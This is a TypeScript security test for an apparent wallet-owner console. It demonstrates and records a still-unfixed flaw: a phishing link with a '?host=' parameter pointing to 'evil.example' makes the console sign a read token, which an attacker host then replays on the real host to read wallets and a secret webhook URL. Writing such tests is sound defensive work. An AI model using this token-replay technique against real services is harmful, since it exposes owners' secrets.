import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import { OwnerClient } from '../../cli/lib/OwnerClient.js'
import { AUDIT_READ_SCHEME, signAuditReadToken } from '../../shared/owner/auditReadAuth.js'
import { signWebhookSetting } from '../../shared/owner/webhookSetting.js'
import { type Stack, startStack } from '../helpers/startStack.js'

/**
 * Attack (malicious host, phishing link): the console takes its API host from `?host=`, so a link to the genuine
 * console page (`https://bursar.example/?host=https://evil.example`) makes it sign an owner read token
 * (EIP-712 `AuditRead { owner, expiresAt }`, valid 1 h) and hand it to the attacker's host. The token names no
 * host, so the attacker replays it against the owner's real host and reads the owner's wallets, audit log and
 * webhook URL (a Slack webhook URL is itself a secret). Here "evil" is a second host the token was issued to.
 *
 * NOT FIXED (rt16, out of time): needs an audience (host origin or enclave key) in AuditRead, checked by the host —
 * a change to the token format shared with the CLI and the Python SDK.
 */
describe('owner read token signed for one host is replayed on another', () => {
  let real: Stack
  let evil: Stack
  beforeAll(async () => {
    ;[real, evil] = await Promise.all([startStack({}), startStack({})])
  }, 60_000)
  afterAll(async () => {
    await Promise.all([real?.stop(), evil?.stop()])
  })

  it.fails("a token handed to another host does not read this host's webhook URL", async () => {
    const owner = privateKeyToAccount(generatePrivateKey())
    const { wallet } = await new OwnerClient(real.url, owner).createWallet('secret hook')
    const url = 'https://hooks.example.com/services/T000/B000/SECRETSECRET'
    const put = await fetch(`${real.url}/v1/owner/webhooks`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify(await signWebhookSetting({ account: owner, wallet, url, issuedAt: Date.now() })) })
    expect(put.status).toBe(200)
    // The owner signs a read token for the evil host (what the console does on connect)...
    const token = await signAuditReadToken({ account: owner, expiresAt: Date.now() + 3_600_000 })
    expect((await fetch(`${evil.url}/v1/owner/wallets`, { headers: { authorization: `${AUDIT_READ_SCHEME} ${token}` } })).status).toBe(200)
    // ...which replays it on the real host.
    const read = await fetch(`${real.url}/v1/owner/webhooks/${wallet}`, { headers: { authorization: `${AUDIT_READ_SCHEME} ${token}` } })
    expect(JSON.stringify(await read.json())).not.toContain('SECRETSECRET')
  }, 60_000)
})
